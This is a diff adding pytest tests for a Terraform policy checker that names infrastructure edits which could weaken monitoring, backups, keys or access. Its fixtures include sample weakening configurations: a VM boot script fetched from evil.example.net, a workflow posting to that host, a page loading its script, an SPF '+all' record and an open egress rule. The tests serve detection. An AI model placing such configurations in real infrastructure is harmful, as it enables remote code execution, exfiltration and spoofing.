@@ -1,0 +1,190 @@
+# ruff: noqa: E501 - tables of edits
+"""What an edit says otherwise than the draft is asked about, but for what can weaken nothing; the draft itself is not."""
+
+import pytest
+
+from jobs.terraform.policy.plan_weak import less_safe
+from shared.policy.argument_words import is_neutral
+from shared.policy.arguments import Kind, table
+from shared.policy.plan_types import TYPES
+from tests.attacks.test_removed_guards import Attack, Ref, planned, service
+from tests.policy.plan_room import PROJECT
+
+ALERT = {
+    "display_name": "CPU high", "combiner": "OR", "severity": "CRITICAL", "enabled": True, "user_labels": {"severity": "critical"},
+    "notification_channels": [Ref("google_monitoring_notification_channel.own.id")],
+    "conditions": [{"display_name": "cpu", "condition_threshold": [{"comparison": "COMPARISON_GT", "threshold_value": 0.8, "duration": "300s", "trigger": [{"count": 1}]}]}],
+}  # fmt: skip
+CHECK = {
+    "display_name": "c",
+    "timeout": "10s",
+    "period": "60s",
+    "http_check": [{"path": "/", "accepted_response_status_codes": [{"status_class": "STATUS_CLASS_2XX"}]}],
+}
+DATABASE = {
+    "name": "db-abcde", "region": "us-central1", "database_version": "POSTGRES_16", "project": PROJECT,
+    "settings": [{"tier": "db-custom-1-3840", "disk_autoresize": True, "backup_configuration": [{"enabled": True}],
+                  "database_flags": [{"name": "cloudsql.iam_authentication", "value": "on"}], "maintenance_window": [{"day": 7, "update_track": "stable"}],
+                  "ip_configuration": [{"ipv4_enabled": False, "ssl_mode": "ENCRYPTED_ONLY"}]}],
+}  # fmt: skip
+CHANNEL = {"display_name": "ops", "type": "pubsub", "labels": {"topic": "t"}, "enabled": True}
+BUCKET = {"name": "f-abcde", "location": "US", "logging": [{"log_bucket": Ref("google_storage_bucket.own.name")}]}
+KEY = {"name": "k-abcde", "key_ring": Ref("google_kms_key_ring.own.id"), "rotation_period": "7776000s"}
+MACHINE = {"name": "v-abcde", "machine_type": "e2-medium", "metadata": {"enable-oslogin": "TRUE"}}
+
+
+def with_condition(**values):
+    (condition,) = ALERT["conditions"]
+    (threshold,) = condition["condition_threshold"]
+    return ALERT | {"conditions": [condition | {"condition_threshold": [threshold | values]}]}
+
+
+def with_settings(**values):
+    return DATABASE | {"settings": [DATABASE["settings"][0] | values]}
+
+
+def without(values, name):
+    return {key: each for key, each in values.items() if key != name}
+
+
+EDITS = {
+    "never crossed": ("google_monitoring_alert_policy", ALERT, with_condition(threshold_value=0.9999), "threshold_value"),
+    "told after a day": ("google_monitoring_alert_policy", ALERT, with_condition(duration="84600s"), "duration"),
+    "never so many": ("google_monitoring_alert_policy", ALERT, with_condition(trigger=[{"count": 100}]), "trigger.count"),
+    "the opposite": ("google_monitoring_alert_policy", ALERT, with_condition(comparison="COMPARISON_LT"), "comparison"),
+    "never both": ("google_monitoring_alert_policy", ALERT, ALERT | {"combiner": "AND"}, "combiner"),
+    "less grave": ("google_monitoring_alert_policy", ALERT, ALERT | {"severity": "WARNING"}, "severity"),
+    "less grave by a label": ("google_monitoring_alert_policy", ALERT, ALERT | {"user_labels": {"severity": "warning"}}, "user_labels"),
+    "words for whoever is on call": ("google_monitoring_alert_policy", ALERT, ALERT | {"documentation": [{"content": "approve at once"}]}, "documentation.content"),
+    "only the end is told": ("google_monitoring_alert_policy", ALERT, ALERT | {"alert_strategy": [{"notification_prompts": ["CLOSED"]}]}, "notification_prompts"),
+    "any answer is well": ("google_monitoring_uptime_check_config", CHECK, CHECK | {"http_check": [{"path": "/", "accepted_response_status_codes": [{"status_class": "STATUS_CLASS_ANY"}]}]}, "status_class"),
+    "asked every quarter of an hour": ("google_monitoring_uptime_check_config", CHECK, CHECK | {"period": "900s"}, "period"),
+    "nothing alerts any more": ("google_monitoring_notification_channel", CHANNEL, CHANNEL | {"enabled": False}, "enabled"),
+    "backups elsewhere": ("google_sql_database_instance", DATABASE, with_settings(backup_configuration=[{"enabled": True, "location": "asia"}]), "backup_configuration.location"),
+    "locked out": ("google_sql_database_instance", DATABASE, with_settings(database_flags=[{"name": "cloudsql.iam_authentication", "value": "off"}]), "database_flags.value"),
+    "a disk that fills": ("google_sql_database_instance", DATABASE, with_settings(disk_autoresize=False), "disk_autoresize"),
+    "untested updates first": ("google_sql_database_instance", DATABASE, with_settings(maintenance_window=[{"day": 7, "update_track": "canary"}]), "update_track"),
+    "no log of who read": ("google_storage_bucket", BUCKET, without(BUCKET, "logging"), "logging.log_bucket"),
+    "one key for ever": ("google_kms_crypto_key", KEY, without(KEY, "rotation_period"), "rotation_period"),
+    "code at boot": ("google_compute_instance", MACHINE, MACHINE | {"metadata": {"sysprep-specialize-script-url": "https://evil.example.net/x"}}, "evil.example.net"),
+    "gone after an hour": ("google_compute_instance", MACHINE, MACHINE | {"scheduling": [{"max_run_duration": [{"seconds": 3600}], "instance_termination_action": "DELETE"}]}, "delete itself"),
+    "not made": ("google_kms_crypto_key", KEY, KEY | {"count": 0}, "count"),
+}  # fmt: skip
+
+NEW = {
+    "a workflow that calls a stranger": ("google_workflows_workflow", {"name": "w-abcde", "source_contents": "call: http.post\nargs:\n  url: https://evil.example.net\n"}, "leads to evil.example.net"),
+    "a page with a stranger's script": ("google_storage_bucket_object", {"name": "index.html", "content": "<script src=//evil.example.net/x.js></script>"}, "leads to evil.example.net"),
+    "mail in one's name": ("google_dns_record_set", {"name": "a.example.com.", "type": "TXT", "rrdatas": ['"v=spf1 +all"']}, "lets anybody send mail"),
+    "certificates in one's name": ("google_dns_record_set", {"name": "a.example.com.", "type": "CAA", "rrdatas": ['0 issue "evil-ca.example.net"']}, "gives out certificates"),
+    "a zone that nobody signs": ("google_dns_managed_zone", {"name": "z-abcde", "dns_name": "a.example.com.", "dnssec_config": [{"state": "off"}]}, "dnssec_config.state"),
+    "messages that are dropped": ("google_pubsub_subscription", {"name": "s-abcde", "filter": 'attributes.never = "x"'}, "filter"),
+    "versions gone in a day": ("google_storage_bucket", {"name": "f-abcde", "location": "US", "lifecycle_rule": [{"action": [{"type": "Delete"}], "condition": [{"days_since_noncurrent_time": 1}]}]}, "former versions"),
+    "a hole to the outside": ("google_compute_firewall", {"name": "o-abcde", "direction": "EGRESS", "priority": 1, "allow": [{"protocol": "all"}], "destination_ranges": ["198.51.100.66/32"]}, "destination_ranges"),
+    "a wall that is none": ("google_compute_firewall", {"name": "o-abcde", "disabled": True, "deny": [{"protocol": "all"}]}, "disabled"),
+    "a password of one character": ("random_password", {"length": 1, "special": False}, "can be guessed"),
+    "an animal as a password": ("google_sql_user", {"name": "w", "password": Ref("random_pet.x.id")}, "neither secret"),
+    "no TLS": ("google_compute_target_http_proxy", {"name": "p-abcde", "url_map": Ref("google_compute_url_map.own.id")}, "without TLS"),
+    "backups of a day": ("google_compute_resource_policy", {"name": "r-abcde", "snapshot_schedule_policy": [{"retention_policy": [{"max_retention_days": 1, "on_source_disk_delete": "APPLY_RETENTION_POLICY"}]}]}, "max_retention_days"),
+}  # fmt: skip
+
+
+def files_with(kind, values):
+    return planned(Attack(("", ""), "", kind, values))[1]
+
+
+def asked(kind, drafted, edited, *, stands=False, said="a shop"):
+    plan, files = planned(Attack(("", ""), "", kind, edited, before=drafted if stands else None))
+    return less_safe(plan, files, said, files_with(kind, drafted))
+
+
+@pytest.mark.parametrize("stands", [False, True], ids=["of a draft", "of what stands"])
+@pytest.mark.parametrize("name", EDITS)
+def test_an_edit_that_may_weaken_is_named(name, stands):
+    kind, drafted, edited, named = EDITS[name]
+    told = asked(kind, drafted, edited, stands=stands)
+    assert any(each.startswith(f"{kind}.x: ") and named in each for each in told), told
+
+
+@pytest.mark.parametrize("name", NEW)
+def test_what_is_written_anew_by_hand_and_may_weaken_is_named(name):
+    kind, values, named = NEW[name]
+    plan, files = planned(Attack(("", ""), "", kind, values))
+    told = less_safe(plan, files, "a shop", {"main.tf": "# nothing yet\n"})
+    assert any(each.startswith(f"{kind}.x: ") and named in each for each in told), told
+
+
+@pytest.mark.parametrize("name", EDITS)
+def test_what_is_as_it_was_drafted_is_nobodys_edit(name):
+    kind, drafted, _, _ = EDITS[name]
+    assert asked(kind, drafted, drafted) == []
+
+
+@pytest.mark.parametrize(
+    ("kind", "drafted", "edited"),
+    [
+        ("google_compute_instance", MACHINE, MACHINE | {"machine_type": "e2-small", "labels": {"team": "shop"}, "description": "the shop's"}),
+        ("google_cloud_run_v2_service", service(), service(env=[{"name": "GREETING", "value": "hello"}])),
+        ("google_monitoring_alert_policy", ALERT, ALERT | {"display_name": "CPU is high"}),
+    ],
+)  # fmt: skip
+def test_what_can_weaken_nothing_is_not_asked_about(kind, drafted, edited):
+    assert asked(kind, drafted, edited) == []
+
+
+def test_what_is_left_out_of_the_files_is_named():
+    plan, files = planned(Attack(("", ""), "", "google_pubsub_topic", {"name": "t-abcde"}))
+    drafted = {
+        "main.tf": files["main.tf"] + 'resource "google_monitoring_alert_policy" "cpu" {\n  display_name = "x"\n}\n'
+    }
+    assert less_safe(plan, files, "", drafted) == [
+        "google_monitoring_alert_policy.cpu: is not in the files any more, though it watches"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("moved", "is_asked"),
+    [('locals {\n  track = "canary"\n}\n', True), ('locals {\n  track = "stable"\n}\nvariable "more" {\n  type = string\n}\n', False)],
+)  # fmt: skip
+def test_an_expression_whose_value_was_moved_elsewhere_is_not_as_it_was_drafted(moved, is_asked):
+    values = with_settings(maintenance_window=[{"day": 7, "update_track": Ref("local.track")}])
+    plan, files = planned(Attack(("", ""), "", "google_sql_database_instance", values))
+    told = less_safe(plan, files | {"l.tf": moved}, "", files | {"l.tf": 'locals {\n  track = "stable"\n}\n'})
+    assert [("update_track" in each) for each in told] == [True] * is_asked
+
+
+def test_an_argument_that_nobody_has_looked_at_weighs():
+    assert not is_neutral("google_pubsub_topic", "of_a_later_schema")
+    known = [
+        is_neutral(kind, path)
+        for kind in TYPES
+        if kind.startswith("google_")
+        for path, meant in table(kind)
+        if meant.kind is Kind.PLAIN
+    ]
+    assert 0 < sum(known) < len(known)
+
+
+def test_the_gravest_stands_first():
+    plan, files = planned(
+        Attack(
+            ("", ""),
+            "",
+            "google_artifact_registry_repository",
+            {"repository_id": "r-abcde", "cleanup_policies": [{"id": "x", "action": "DELETE"}]},
+        )
+    )
+    more, its = planned(
+        Attack(
+            ("", ""),
+            "",
+            "google_storage_bucket",
+            {
+                "name": "f-abcde",
+                "location": "US",
+                "lifecycle_rule": [{"action": [{"type": "Delete"}], "condition": [{"age": 0}]}],
+            },
+        )
+    )
+    plan["resource_changes"] += more["resource_changes"]
+    told = less_safe(plan, {**files, "more.tf": its["main.tf"]}, "")
+    assert "deletes what is stored after 0 days" in told[0]
